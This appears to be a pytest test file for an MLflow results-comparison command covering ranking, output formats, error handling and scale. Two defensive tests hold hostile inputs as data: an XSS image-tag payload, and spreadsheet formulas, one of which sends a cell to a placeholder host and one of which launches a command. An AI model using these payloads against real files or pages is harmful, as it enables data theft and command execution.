"""`compare`: the lab's results table from runs logged to a real MLflow server.

Rows, order and values are checked against what the runs logged; every format is parsed
back (csv module, json, the Markdown header); each bad input is one line with exit code 2.
The 10,000-run case checks correctness at that size and asserts its time
(``COMPARE_10K_MAX_S``; benchmarks/compare_scale.py measures it by hand); a few dozen runs in
pages of 7 check that the search path follows every page.
"""

from __future__ import annotations

import contextlib
import csv
import importlib
import io
import json
import math
import os
import sqlite3
import subprocess
import tempfile
import time
import uuid
from datetime import datetime, timezone
from pathlib import Path
from types import SimpleNamespace

import mlflow
import pandas as pd
import pytest
from click.testing import CliRunner
from mlflow.entities import Metric, Param
from mlflow.tracking import MlflowClient

from mnist_tracker import constants
from mnist_tracker.cli import main
from mnist_tracker.cli.compare import compare_cmd
from mnist_tracker.config import resolve_config
from mnist_tracker.reporting import compare, render
from mnist_tracker.tracking import artifacts
from mnist_tracker.workflows.train import TrainOptions, train

from .conftest import BIN, REPO, SUBSET, free_port

main.add_command(compare_cmd)  # what cli.py does; a no-op once it does

LAB_HEADER = "| Model | Accuracy (%) | F1 | Training Time (s) |"


def invoke(*args: str):
    return CliRunner().invoke(main, ["compare", *args])


def log_synthetic(
    client: MlflowClient,
    experiment_id: str,
    name: str,
    *,
    params: dict[str, str],
    metrics: dict[str, float],
    status: str = "FINISHED",
    history: dict[str, list[float]] | None = None,
) -> str:
    """A run logged through the client: params, final metrics (step = epochs), history."""
    run_id = client.create_run(experiment_id, run_name=name).info.run_id
    ts = int(time.time() * 1000)
    steps = int(params.get("epochs", "1"))
    batch = [Metric(k, v, ts, steps) for k, v in metrics.items() if k not in (history or {})]
    for key, values in (history or {}).items():
        batch += [Metric(key, v, ts + step, step) for step, v in enumerate(values, start=1)]
    client.log_batch(run_id, metrics=batch, params=[Param(k, v) for k, v in params.items()])
    if status != "RUNNING":
        client.set_terminated(run_id, status)
    return run_id


def vit_params(epochs: int = 3) -> dict[str, str]:
    return {
        "model": "vit",
        "epochs": str(epochs),
        "batch_size": "32",
        "lr": "0.002",
        "train_size": "54000",
        "image_size": "28",
        "precision": "bf16",
        "device": "cpu",
    }


@pytest.fixture(scope="module")
def lab(mlflow_server):
    """Experiment ``main``: two real tiny training runs (cnn, deep_cnn) and runs logged through
    the client (a newer cnn, a finished vit, a RUNNING vit and a FAILED cnn that beat
    everything, a run without a ``model`` param, a tuner's parent run with one that beats
    everything too); experiment ``other``: one pretrained alexnet run that ranks last;
    experiment ``empty``: nothing."""
    mlflow.set_tracking_uri(mlflow_server)
    client = MlflowClient(mlflow_server)
    tag = uuid.uuid4().hex[:8]
    names = SimpleNamespace(main=f"cmp-{tag}", other=f"cmp-other-{tag}", empty=f"cmp-empty-{tag}")
    runs = {}
    for key, model, epochs in (("cnn_a", "cnn", 2), ("deep", "deep_cnn", 1)):
        config = resolve_config(model, epochs=epochs, limit_train=128, limit_test=100)
        options = TrainOptions(data_dir=SUBSET, experiment=names.main, run_name=key)
        outcome = train(config, options)
        runs[key] = outcome.run_id
    main_id = client.get_experiment_by_name(names.main).experiment_id
    runs["cnn_b"] = log_synthetic(  # a newer cnn run
        client,
        main_id,
        "cnn-b",
        params={**vit_params(2), "model": "cnn"},
        metrics={"test_accuracy": 0.0625, "test_f1_macro": 0.05, "training_time_s": 3.25},
    )
    vit_metrics = {"test_accuracy": 0.4321, "test_f1_macro": 0.41234567, "training_time_s": 12.5}
    runs["vit"] = log_synthetic(
        client,
        main_id,
        "vit-done",
        params=vit_params(),
        metrics=vit_metrics,
        history={
            "train_loss": [2.1, 1.7, 1.4],
            "test_loss": [2.2, 1.9, 1.6],
            "train_accuracy": [0.2, 0.35, 0.45],
            "test_accuracy": [0.25, 0.38, 0.4321],
        },
    )
    runs["vit_running"] = log_synthetic(
        client,
        main_id,
        "vit-running",
        params=vit_params(),
        metrics={**vit_metrics, "test_accuracy": 0.99},
        status="RUNNING",
    )
    runs["cnn_failed"] = log_synthetic(
        client,
        main_id,
        "cnn-failed",
        params={**vit_params(), "model": "cnn"},
        metrics={**vit_metrics, "test_accuracy": 1.0},
        status="FAILED",
    )
    runs["no_model"] = log_synthetic(
        client, main_id, "parent", params={"trials": "3"}, metrics={"test_accuracy": 1.0}
    )
    runs["study"] = log_synthetic(  # what workflows.tune logs for a study's parent run
        client,
        main_id,
        "study-parent",
        params={"model": "cnn", "trials": "4", "epochs": "1", "sampler": "tpe"},
        metrics={"test_accuracy": 1.0, "test_f1_macro": 1.0, "training_time_s": 0.5},
    )
    client.set_tag(runs["study"], artifacts.ROLE_TAG, "study")
    other_id = client.create_experiment(names.other)
    runs["alexnet"] = log_synthetic(
        client,
        other_id,
        "alexnet-other",
        params={**vit_params(1), "model": "alexnet", "pretrained": "true", "test_size": "10000"},
        metrics={"test_accuracy": 0.0, "test_f1_macro": 0.0, "training_time_s": 99.0},
    )
    client.create_experiment(names.empty)
    return SimpleNamespace(names=names, runs=runs, client=client)


def best_per_model(client: MlflowClient, run_ids, metric="test_accuracy", lower=False):
    """The expected rows, computed from the runs themselves: best value, ties to the newest."""
    best = {}
    for run_id in run_ids:
        run = client.get_run(run_id)
        model = run.data.params["model"]
        key = (
            -run.data.metrics[metric] if not lower else run.data.metrics[metric],
            -run.info.start_time,
        )
        if model not in best or key < best[model][0]:
            best[model] = (key, run_id)
    return [run_id for _, run_id in sorted(best.values())]


def finished_training_runs(lab) -> list[str]:
    return [lab.runs[k] for k in ("cnn_a", "cnn_b", "deep", "vit")]


def optional_int(params: dict[str, str], key: str) -> int | None:
    return int(params[key]) if key in params else None


# Rounding to 12 significant digits moves a value by at most half a unit of its 12th digit:
# 5e-12 of it. (1e-12 here failed when a time such as 1.3388196589985455 s became 1.338819659.)
TWELVE_DIGITS = 5e-12


def check_row_against_run(row: dict, run) -> None:
    """Every value of a JSON row equals what the run logged, to 12 significant digits (render's
    float-noise cleanup; a float carries 15-17)."""
    params, metrics = run.data.params, run.data.metrics
    assert row["run_id"] == run.info.run_id
    assert row["model"] == params["model"]  # the registry key, for scripts
    close = {"rel": TWELVE_DIGITS}
    assert row["accuracy_pct"] == pytest.approx(metrics["test_accuracy"] * 100, **close)
    assert row["f1_macro"] == pytest.approx(metrics["test_f1_macro"], **close)
    assert row["training_time_s"] == pytest.approx(metrics["training_time_s"], **close)
    assert row["epochs"] == int(params["epochs"])
    assert row["batch_size"] == int(params["batch_size"])
    assert row["lr"] == float(params["lr"])
    for key in ("train_size", "test_size", "image_size"):
        assert row[key] == optional_int(params, key), key
    assert row["pretrained"] == {"true": True, "false": False}.get(params.get("pretrained"))
    assert row["precision"] == params["precision"] and row["device"] == params["device"]
    assert row["run_name"] == run.info.run_name
    start = datetime.fromtimestamp(run.info.start_time // 1000, tz=timezone.utc)
    assert row["start_time"] == start.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert row["status"] == run.info.status


# ---------------------------------------------------------------------------------------------
# Against the server: rows, order, values; every format parsed back


@pytest.mark.slow
def test_json_rows_order_and_values(server_uri, lab):
    result = invoke("--experiment", lab.names.main, "--format", "json")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    expected = best_per_model(lab.client, finished_training_runs(lab))
    assert [r["run_id"] for r in rows] == expected
    assert {r["model"] for r in rows} == {"cnn", "deep_cnn", "vit"}
    real = [r for r in rows if r["run_id"] in (lab.runs["cnn_a"], lab.runs["deep"])]
    assert real and all(r["train_size"] and r["image_size"] == 28 for r in real)
    assert all(r["pretrained"] is False for r in real)  # cnn and deep_cnn log "false"
    accuracies = [r["accuracy_pct"] for r in rows]
    assert accuracies == sorted(accuracies, reverse=True)
    for row in rows:
        check_row_against_run(row, lab.client.get_run(row["run_id"]))
    assert list(rows[0]) == list(render.HEADERS)  # the lab's columns first


@pytest.mark.slow
def test_csv_parses_to_the_same_values(server_uri, lab):
    as_json = json.loads(invoke("--experiment", lab.names.main, "--format", "json").stdout)
    result = invoke("--experiment", lab.names.main, "--format", "csv")
    assert result.exit_code == 0, result.output
    reader = csv.DictReader(io.StringIO(result.stdout))
    assert reader.fieldnames == list(render.HEADERS)
    rows = list(reader)
    assert len(rows) == len(as_json)
    for row, expected in zip(rows, as_json, strict=True):
        for key, value in expected.items():
            if isinstance(value, float):
                assert float(row[key]) == value, key  # the same rounded number
            elif isinstance(value, bool):
                assert row[key] == ("true" if value else "false"), key
            else:
                assert row[key] == ("" if value is None else str(value)), key


@pytest.mark.slow
def test_markdown_table_has_the_lab_header(server_uri, lab):
    as_json = json.loads(invoke("--experiment", lab.names.main, "--format", "json").stdout)
    result = invoke("--experiment", lab.names.main, "--format", "markdown")
    assert result.exit_code == 0, result.output
    lines = result.stdout.strip().splitlines()
    assert lines[0].startswith(LAB_HEADER)
    header = [c.strip() for c in lines[0].strip("|").split("|")]
    assert header == list(render.HEADERS.values())
    assert set(lines[1].strip("|").split("|")) <= {"---", "---:"}
    assert header[7:11] == ["Train images", "Test images", "Image size", "Pretrained"]
    assert len(lines) == 2 + len(as_json)
    for line, row in zip(lines[2:], as_json, strict=True):
        cells = [c.strip() for c in line.strip("|").split("|")]
        metrics = lab.client.get_run(row["run_id"]).data.metrics
        assert cells[:4] == [
            compare.display_name(row["model"]),
            f"{metrics['test_accuracy'] * 100:.2f}",
            f"{metrics['test_f1_macro']:.4f}",
            f"{metrics['training_time_s']:.2f}",
        ]
        assert cells[header.index("Run ID")] == row["run_id"]
        shown = {True: "true", False: "false", None: ""}[row["pretrained"]]
        assert cells[header.index("Pretrained")] == shown


@pytest.mark.slow
def test_table_is_aligned(server_uri, lab):
    as_json = json.loads(invoke("--experiment", lab.names.main, "--format", "json").stdout)
    result = invoke("--experiment", lab.names.main)
    assert result.exit_code == 0, result.output
    header, rule, *rows = result.stdout.rstrip("\n").splitlines()
    assert header.split()[:4] == ["Model", "Accuracy", "(%)", "F1"]
    assert set(rule) == {"-", " "}
    column = header.index("Run ID")
    for line, row in zip(rows, as_json, strict=True):
        assert line.startswith(compare.display_name(row["model"]))
        assert line[column : column + 32] == row["run_id"]
        assert f"{row['accuracy_pct']:.2f}" in line


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--runs", "all"], "all_finished"),
        (["--runs", "latest"], "latest"),
        (["--include-unfinished"], "unfinished"),
        (["--filter", "params.model = 'cnn'"], "cnn_only"),
        (["--metric", "training_time_s"], "fastest"),
    ],
    ids=["all", "latest", "include-unfinished", "filter", "metric"],
)
def test_selection_options(server_uri, lab, args, expected):
    result = invoke("--experiment", lab.names.main, "--format", "json", *args)
    assert result.exit_code == 0, result.output
    got = [r["run_id"] for r in json.loads(result.stdout)]
    runs, client = lab.runs, lab.client
    finished = finished_training_runs(lab)
    by_accuracy = sorted(
        finished,
        key=lambda r: (
            -client.get_run(r).data.metrics["test_accuracy"],
            -client.get_run(r).info.start_time,
        ),
    )
    want = {
        "all_finished": by_accuracy,
        "latest": [r for r in by_accuracy if r != runs["cnn_a"]],  # cnn_b is the newer cnn
        "unfinished": [runs["cnn_failed"], runs["vit_running"], runs["deep"]],
        "cnn_only": best_per_model(client, [runs["cnn_a"], runs["cnn_b"]]),
        "fastest": best_per_model(client, finished, "training_time_s", lower=True),
    }[expected]
    assert got == want


@pytest.mark.slow
def test_several_experiments(server_uri, lab):
    result = invoke(
        "--experiment", lab.names.main, "--experiment", lab.names.other, "--format", "json"
    )
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert rows[-1]["run_id"] == lab.runs["alexnet"] and rows[-1]["model"] == "alexnet"
    assert rows[-1]["pretrained"] is True and rows[-1]["test_size"] == 10000
    assert len(rows) == 4


@pytest.mark.slow
def test_a_study_parent_run_is_no_row(server_uri, lab):
    """A tuner's parent logs a ``model`` param (and here the best accuracy): still no row, and
    not counted in ``n_runs``, whatever the selection."""
    client = MlflowClient(server_uri)
    for mode in ("best", "all"):
        for unfinished in (False, True):
            query = compare.Query(
                experiments=(lab.names.main,), mode=mode, include_unfinished=unfinished
            )
            comparison = compare.compare(client, query)
            assert lab.runs["study"] not in set(comparison.table["run_id"])
            expected = finished_training_runs(lab)
            if unfinished:
                expected += [lab.runs["vit_running"], lab.runs["cnn_failed"]]
            assert comparison.n_runs == len(expected)
            if mode == "all":
                assert set(comparison.table["run_id"]) == set(expected)
    assert client.get_run(lab.runs["study"]).data.metrics["test_accuracy"] == 1.0


@pytest.mark.slow
def test_output_file_holds_what_stdout_shows(server_uri, lab, tmp_path):
    shown = invoke("--experiment", lab.names.main, "--format", "markdown").stdout
    out = tmp_path / "table.md"
    result = invoke("--experiment", lab.names.main, "--format", "markdown", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert out.read_text() == shown and result.stdout == ""
    assert f"wrote {out}" in result.stderr


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--experiment", "no-such-exp"], "experiment 'no-such-exp' not found"),
        (["--experiment", "{empty}"], "no finished training runs in experiment"),
        (["--experiment", "{main}", "--filter", "metrics.x >> 1"], "MLflow rejected --filter"),
        (["--experiment", "{main}", "--filter", "colour = 'red'"], "MLflow rejected --filter"),
        (["--experiment", "{main}", "--metric", "nope"], "runs logged the metric 'nope'"),
        (["--experiment", "{main}", "--all-experiments"], "contradict"),
        (["--experiment", "{main}", "--runs", "best2"], "'best2' is not one of"),
        (["--experiment", "{main}", "--format", "xml"], "'xml' is not one of"),
        (["--experiment", "{main}", "--output", "/no/such/dir/t.csv"], "cannot write --output"),
        (["--experiment", "{main}", "--report", "/no/such/dir/r.html"], "cannot write --report"),
        (["--experiment", "{main}", "--report", "/tmp"], "/tmp: it is a folder"),
    ],
    ids=[
        "unknown-experiment",
        "empty-experiment",
        "bad-comparator",
        "bad-attribute",
        "unknown-metric",
        "contradiction",
        "bad-runs",
        "bad-format",
        "unwritable-output",
        "unwritable-report",
        "report-is-a-folder",
    ],
)
def test_bad_input_is_one_line_exit_2(server_uri, lab, args, message):
    args = [a.format(main=lab.names.main, empty=lab.names.empty) for a in args]
    result = invoke(*args)
    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("Error: ") and message in result.stderr
    assert result.stdout == ""  # a refusal prints no table first
    assert "Traceback" not in result.output


@pytest.mark.slow
def test_unreachable_server_is_one_line_exit_2():
    uri = f"http://127.0.0.1:{free_port()}"
    result = invoke("--tracking-uri", uri)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"Error: tracking server {uri} is not reachable")
    assert "pass another --tracking-uri" in result.stderr
    assert result.stderr.count("\n") == 1


@pytest.mark.slow
def test_mlflow_run_compare_entry_point(server_uri, lab, cli_env, tmp_path):
    """Inside the run `mlflow run` creates: the table as usual, the file logged to that run."""
    cli_env["MLFLOW_TRACKING_URI"] = server_uri
    project_experiment = f"{lab.names.main}-project"
    out = tmp_path / "table.json"
    proc = subprocess.run(
        [
            str(BIN / "mlflow"),
            "run",
            str(REPO),
            "-e",
            "compare",
            "--env-manager",
            "local",
            "--experiment-name",
            project_experiment,
            "-P",
            f"experiment={lab.names.main}",
            "-P",
            "format=json",
            "-P",
            f"output={out}",
        ],
        capture_output=True,
        text=True,
        env=cli_env,
        cwd=tmp_path,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    rows = json.loads(out.read_text())
    assert [r["run_id"] for r in rows] == best_per_model(lab.client, finished_training_runs(lab))
    experiment = lab.client.get_experiment_by_name(project_experiment)
    (run,) = lab.client.search_runs([experiment.experiment_id])
    assert run.info.status == "FINISHED"
    assert run.data.tags["mlflow.project.entryPoint"] == "compare"
    assert [a.path for a in lab.client.list_artifacts(run.info.run_id)] == ["table.json"]


# ---------------------------------------------------------------------------------------------
# A local SQLite store: every experiment; 10,000 runs


def test_all_experiments_reads_every_experiment(sqlite_uri):
    client = MlflowClient(sqlite_uri)
    first, second = client.create_experiment("one"), client.create_experiment("two")
    done = {"test_accuracy": 0.5, "test_f1_macro": 0.5, "training_time_s": 1.0}
    a = log_synthetic(client, first, "a", params=vit_params(), metrics=done)
    b = log_synthetic(
        client,
        second,
        "b",
        params={**vit_params(), "model": "cnn"},
        metrics={**done, "test_accuracy": 0.6},
    )
    result = invoke("--all-experiments", "--format", "json")
    assert result.exit_code == 0, result.output
    assert [r["run_id"] for r in json.loads(result.stdout)] == [b, a]
    result = invoke("--format", "json")  # the default experiment `mnist` does not exist
    assert result.exit_code == 2 and "experiment 'mnist' not found" in result.stderr


def test_runs_logged_by_hand_with_odd_values_read_as_empty_or_inf(sqlite_uri):
    """A run MLflow logged by hand with ``epochs=inf`` or ``train_size=1e20`` stopped compare
    (and promote) with a traceback for every experiment; an infinite loss showed as a
    309-digit number (MLflow's SQL stores keep it as the largest float). A hostile test's
    finds, stop 36."""
    client = MlflowClient(sqlite_uri)
    experiment = client.create_experiment("odd")
    done = {"test_accuracy": 0.5, "test_f1_macro": 0.5, "training_time_s": 1.0}
    odd = {**vit_params(), "epochs": "inf", "train_size": "1e20", "lr": "nan"}
    run_id = client.create_run(experiment, run_name="odd").info.run_id
    params = [Param(k, v) for k, v in odd.items()]
    metrics = [Metric(k, v, 0, 1) for k, v in {**done, "test_loss": math.inf}.items()]
    client.log_batch(run_id, metrics=metrics, params=params)
    client.set_terminated(run_id, "FINISHED")

    result = invoke("--experiment", "odd", "--format", "json", "--metric", "test_loss")
    assert result.exit_code == 0, result.output
    (row,) = json.loads(result.stdout)
    assert (row["epochs"], row["train_size"], row["lr"], row["test_loss"]) == (None,) * 4
    assert row["batch_size"] == int(odd["batch_size"]), "the other params as logged"
    table = invoke("--experiment", "odd", "--metric", "test_loss").stdout.splitlines()
    assert table[2].split()[-1] == "inf" and max(len(line) for line in table) < 400


def test_markdown_escapes_inline_html():
    """A run named ``<img src=x onerror=alert(1)>`` went into the Markdown raw: HTML wherever
    Markdown is rendered with inline HTML (the HTML report escaped it already)."""
    runs = frame([("cnn", "<img src=x onerror=alert(1)> & co", 0, 0.5, 1.0)])
    text = render.render(compare.results_table(runs, "test_accuracy"), "markdown")
    assert "&lt;img src=x onerror=alert(1)&gt; &amp; co" in text and "<img" not in text


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1)", "\t=1"]  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_defuses_run_names_a_spreadsheet_would_run(name):
    """A run named like a formula went into the CSV export raw: Excel and LibreOffice run it
    when a teammate opens the file (CSV injection). The cell gets a leading ``'``; numbers
    (a negative one included) and JSON stay as logged."""
    runs = frame([("cnn", "r1", 0, 0.5, -1.5)])
    runs.loc[0, "run_name"] = name
    table = compare.results_table(runs, "test_accuracy")
    (row,) = csv.DictReader(io.StringIO(render.render(table, "csv")))
    assert row["run_name"] == f"'{name}"
    assert row["training_time_s"] == "-1.5" and row["run_id"] == "r1"
    assert json.loads(render.render(table, "json"))[0]["run_name"] == name


def load_benchmark(monkeypatch):
    """benchmarks/compare_scale.py as a module its worker processes can import too."""
    monkeypatch.syspath_prepend(str(REPO / "benchmarks"))
    return importlib.import_module("compare_scale")


@pytest.fixture
def scale_store(tmp_path):
    """A SQLite URI on tmpfs when the machine has one, else in the test's tmp dir."""
    shm = Path("/dev/shm")
    if shm.is_dir() and os.access(shm, os.W_OK):
        with tempfile.TemporaryDirectory(dir=shm, prefix="mnist-tracker-") as folder:
            yield f"sqlite:///{folder}/mlflow.db"
    else:
        yield f"sqlite:///{tmp_path / 'mlflow.db'}"


@pytest.fixture
def ten_thousand_runs(scale_store, monkeypatch):
    """10,000 runs bulk-loaded with SQL (seconds; MLflow's client took 85-182 s): the rows
    the client would write, as ``test_a_bulk_loaded_store_reads_as_one_the_client_made``
    checks."""
    bench = load_benchmark(monkeypatch)
    specs = bench.synthetic_specs(10_000, seed=7, full=False)
    start = time.perf_counter()
    run_ids = bench.bulk_populate(scale_store, "scale", specs)
    print(f"loaded 10,000 runs in {time.perf_counter() - start:.1f} s")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", scale_store)
    mlflow.set_tracking_uri(scale_store)
    return SimpleNamespace(uri=scale_store, specs=specs, run_ids=run_ids)


def test_search_follows_every_page(scale_store, monkeypatch):
    """compare through MLflow's search (any --filter) pages through the runs: with a page of
    7 runs, 40 runs take several requests and give exactly the table the store's direct read
    gives (every run once, in order), as a store too large for one page would."""
    from mnist_tracker.tracking import store

    bench = load_benchmark(monkeypatch)
    specs = bench.synthetic_specs(40, seed=11, full=False)
    bench.bulk_populate(scale_store, "paged", specs)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", scale_store)
    mlflow.set_tracking_uri(scale_store)
    finished = sum(s["status"] == "FINISHED" for s in specs)
    args = ("--experiment", "paged", "--runs", "all", "--format", "json")
    direct = invoke(*args)  # no filter: the SQL read, no paging
    assert direct.exit_code == 0, direct.output
    requests = []
    original = MlflowClient.search_runs

    def counted(self, *a, **kw):
        requests.append(kw.get("max_results"))
        return original(self, *a, **kw)

    monkeypatch.setattr(MlflowClient, "search_runs", counted)
    monkeypatch.setattr(store, "PAGE_SIZE", 7)
    paged = invoke(*args, "--filter", "attributes.status = 'FINISHED'")
    assert paged.exit_code == 0, paged.output
    assert requests == [7] * math.ceil(finished / 7), (requests, finished)
    rows = json.loads(paged.stdout)
    assert len(rows) == finished == len({r["run_id"] for r in rows}) > 30
    assert rows == json.loads(direct.stdout)


@pytest.mark.slow
def test_a_bulk_loaded_store_reads_as_one_the_client_made(tmp_path, monkeypatch):
    """The benchmark's SQL loader stands in for MLflow's client only if compare cannot tell
    them apart: the same 60 runs (every status, full params, per-epoch history) both ways."""
    bench = load_benchmark(monkeypatch)
    specs = bench.synthetic_specs(60, seed=3, full=True)
    shown = []
    for name, load in (("client", bench.populate), ("bulk", bench.bulk_populate)):
        uri = f"sqlite:///{tmp_path / name}.db"
        run_ids = load(uri, "scale", specs)
        monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
        mlflow.set_tracking_uri(uri)
        result = invoke("--experiment", "scale", "--runs", "all", "--include-unfinished",
                        "--format", "json")  # fmt: skip
        assert result.exit_code == 0, result.output
        rows = json.loads(result.stdout)
        order = {run_id: i for i, run_id in enumerate(run_ids)}
        shown.append([(order[row.pop("run_id")], row) for row in rows])
        history = MlflowClient(uri).get_metric_history(run_ids[0], "test_accuracy")
        assert [m.step for m in sorted(history, key=lambda m: m.step)] == list(range(1, 11))
    assert len(shown[0]) == 60 and shown[0] == shown[1]


@pytest.mark.slow
def test_the_direct_read_gives_what_mlflow_search_gives(tmp_path, monkeypatch):
    """``bulk.read_runs`` stands in for MLflow's search in ``compare`` only if it returns the
    same runs, in the same order, with the same values: 60 client-made runs of every status
    and model, plus the odd ones (deleted, NaN and infinite metrics, no params, a study's
    parent, a stale RUNNING run, runs started in the same millisecond, another experiment)."""
    from mnist_tracker.tracking import bulk, lease, store

    bench = load_benchmark(monkeypatch)
    uri = f"sqlite:///{tmp_path / 'm.db'}"
    ids = bench.populate(uri, "scale", bench.synthetic_specs(60, seed=5, full=True))
    client = MlflowClient(uri)
    experiment = client.get_experiment_by_name("scale").experiment_id
    other = client.create_experiment("other")
    done = {"test_accuracy": 0.5, "test_f1_macro": 0.5, "training_time_s": 1.0}
    odd = [
        log_synthetic(client, experiment, "nan", params=vit_params(), metrics={**done,
                      "test_accuracy": math.nan, "training_time_s": math.inf}),
        log_synthetic(client, experiment, "bare", params={}, metrics=done),
        log_synthetic(client, other, "elsewhere", params=vit_params(), metrics=done),
        log_synthetic(client, experiment, "stale", params=vit_params(), metrics=done,
                      status="RUNNING"),
    ]  # fmt: skip
    client.set_tag(odd[3], artifacts.HOLDER_TAG, "gone-host:1")
    client.set_tag(odd[3], artifacts.HEARTBEAT_TAG, "2020-01-01T00:00:00+00:00")
    client.set_tag(odd[0], artifacts.ROLE_TAG, "study")
    client.delete_run(ids[1])
    # A tie on the start time, which MLflow breaks by run id.
    with contextlib.closing(sqlite3.connect(tmp_path / "m.db")) as con, con:
        con.execute("UPDATE runs SET start_time = 1 WHERE run_uuid IN (?, ?, ?)", ids[10:13])
    keys = {"params": compare.FRAME_PARAMS, "metrics": compare.frame_metrics("lr_final"),
            "tags": (artifacts.ROLE_TAG, *lease.STALE_TAGS)}  # fmt: skip
    for experiments in ([experiment], [experiment, other]):
        for finished_only in (True, False):
            where = "attributes.status = 'FINISHED'" if finished_only else ""
            want = store.search_runs(experiments, where, mlflow_client=client)
            got = bulk.read_runs(uri, experiments, finished_only=finished_only, **keys)
            assert [r.info.run_id for r in got] == [r.info.run_id for r in want]
            assert ids[1] not in [r.info.run_id for r in got]
            for a, b in zip(got, want, strict=True):
                for part, names in keys.items():
                    expected = {k: v for k, v in getattr(b.data, part).items() if k in names}
                    assert _same(getattr(a.data, part), expected), (part, b.info.run_name)
                info = ("run_name", "status", "start_time")
                assert [getattr(a.info, k) for k in info] == [getattr(b.info, k) for k in info]
            pd.testing.assert_frame_equal(compare.runs_frame(got), compare.runs_frame(want))
    assert bulk.read_runs("http://127.0.0.1:1", [experiment], finished_only=True) is None


def _same(a: dict, b: dict) -> bool:
    """Equal dicts, NaN equal to NaN."""
    return a.keys() == b.keys() and all(
        a[k] == b[k] or (isinstance(a[k], float) and math.isnan(a[k]) and math.isnan(b[k]))
        for k in a
    )


COMPARE_10K_MAX_S = 30.0  # in process, the report included, on a loaded 2-core machine


@pytest.mark.slow
def test_ten_thousand_runs(ten_thousand_runs, tmp_path, monkeypatch):
    """Right rows at 10,000 runs; histories and artifacts fetched for the shown runs only."""
    specs, run_ids = ten_thousand_runs.specs, ten_thousand_runs.run_ids
    finished = [(s, r) for s, r in zip(specs, run_ids, strict=True) if s["status"] == "FINISHED"]
    best = {}
    for spec, run_id in finished:  # later specs start later: >= keeps the newest of a tie
        key = (spec["metrics"]["test_accuracy"], spec["start_time"], run_id)
        if spec["model"] not in best or key[0] >= best[spec["model"]][0]:
            best[spec["model"]] = key
    expected = [r for _, _, r in sorted(best.values(), reverse=True)]

    fetched: list[tuple[str, str]] = []
    for name in ("get_metric_history", "download_artifacts"):
        original = getattr(MlflowClient, name)

        def spy(self, run_id, *args, _original=original, _name=name, **kwargs):
            fetched.append((_name, run_id))
            return _original(self, run_id, *args, **kwargs)

        monkeypatch.setattr(MlflowClient, name, spy)
    report = tmp_path / "report.html"
    start = time.perf_counter()
    result = invoke("--experiment", "scale", "--format", "json", "--report", str(report))
    took = time.perf_counter() - start
    assert result.exit_code == 0, result.output
    # benchmarks/RESULTS-compare.md: 6.6 s for the whole process on the 2-core machine.
    assert took < COMPARE_10K_MAX_S, f"compare with --report on 10,000 runs took {took:.1f} s"
    assert [r["run_id"] for r in json.loads(result.stdout)] == expected
    assert {run_id for _, run_id in fetched} == set(expected)
    assert report.is_file()

    result = invoke("--experiment", "scale", "--runs", "all", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(finished) > 9000
    assert {r["run_id"] for r in rows} == {r for _, r in finished}
    accuracies = [float(r["accuracy_pct"]) for r in rows]
    assert accuracies == sorted(accuracies, reverse=True)

    result = invoke(
        "--experiment", "scale", "--runs", "all", "--include-unfinished", "--format", "json"
    )
    assert len(json.loads(result.stdout)) == 10_000


# ---------------------------------------------------------------------------------------------
# Selection and rendering, without a store


def frame(rows: list[tuple]) -> pd.DataFrame:
    """A ``runs_frame``-like DataFrame from (model, run_id, start, accuracy, time) tuples."""
    records = [
        {
            "model_key": m,
            "run_id": r,
            "run_name": r,
            "status": "FINISHED",
            "start_time": s,
            "epochs": 1,
            "batch_size": 64,
            "lr": 0.001,
            "train_size": 54000,
            "test_size": 10000,
            "image_size": 28,
            "pretrained": pd.NA,
            "precision": "fp32",
            "device": "cpu",
            "test_accuracy": a,
            "test_f1_macro": a,
            "training_time_s": t,
        }
        for m, r, s, a, t in rows
    ]
    return pd.DataFrame(records)


@pytest.mark.parametrize(
    ("mode", "metric", "expected"),
    [
        ("best", "test_accuracy", ["v1", "c2", "d1"]),  # c2 beats c1 on the tie: newer
        ("latest", "test_accuracy", ["v1", "d1", "c3"]),  # c3 has no accuracy: last
        ("all", "test_accuracy", ["v1", "c2", "c1", "d1", "c3"]),  # NaN last
        ("best", "training_time_s", ["c2", "d1", "v1"]),  # lower is better for times
    ],
)
def test_select_rows(mode, metric, expected):
    runs = frame(
        [
            ("cnn", "c1", 1, 0.9, 30.0),
            ("cnn", "c2", 2, 0.9, 10.0),
            ("cnn", "c3", 3, math.nan, 50.0),
            ("deep_cnn", "d1", 1, 0.8, 20.0),
            ("vit", "v1", 1, 0.95, 40.0),
        ]
    )
    assert list(compare.select_rows(runs, mode, metric)["run_id"]) == expected


@pytest.mark.parametrize("metric", ["test_loss", "val_loss", "train_loss"])
def test_lower_is_better_for_every_loss(metric):
    """README: "lower is better for `*loss`": the run with the smallest loss is each model's
    best, as for times; a metric named otherwise (F1 here) ranks the other way."""
    runs = frame([("cnn", "c1", 1, 0.9, 30.0), ("cnn", "c2", 2, 0.8, 10.0),
                  ("vit", "v1", 1, 0.95, 40.0)])  # fmt: skip
    runs[metric] = [0.30, 0.10, 0.40]
    assert compare.lower_is_better(metric) and not compare.lower_is_better("test_f1_macro")
    assert list(compare.select_rows(runs, "best", metric)["run_id"]) == ["c2", "v1"]
    assert list(compare.select_rows(runs, "all", metric)["run_id"]) == ["c2", "c1", "v1"]
    assert list(compare.select_rows(runs, "best", "test_f1_macro")["run_id"]) == ["v1", "c1"]


def test_missing_values_render_empty_and_null():
    runs = frame([("resnet", "r1", 0, 0.5, math.nan)])
    table = compare.results_table(runs, "test_accuracy")
    assert table.loc[0, "model"] == "resnet"  # unknown models keep their name
    assert json.loads(render.render(table, "json"))[0]["training_time_s"] is None
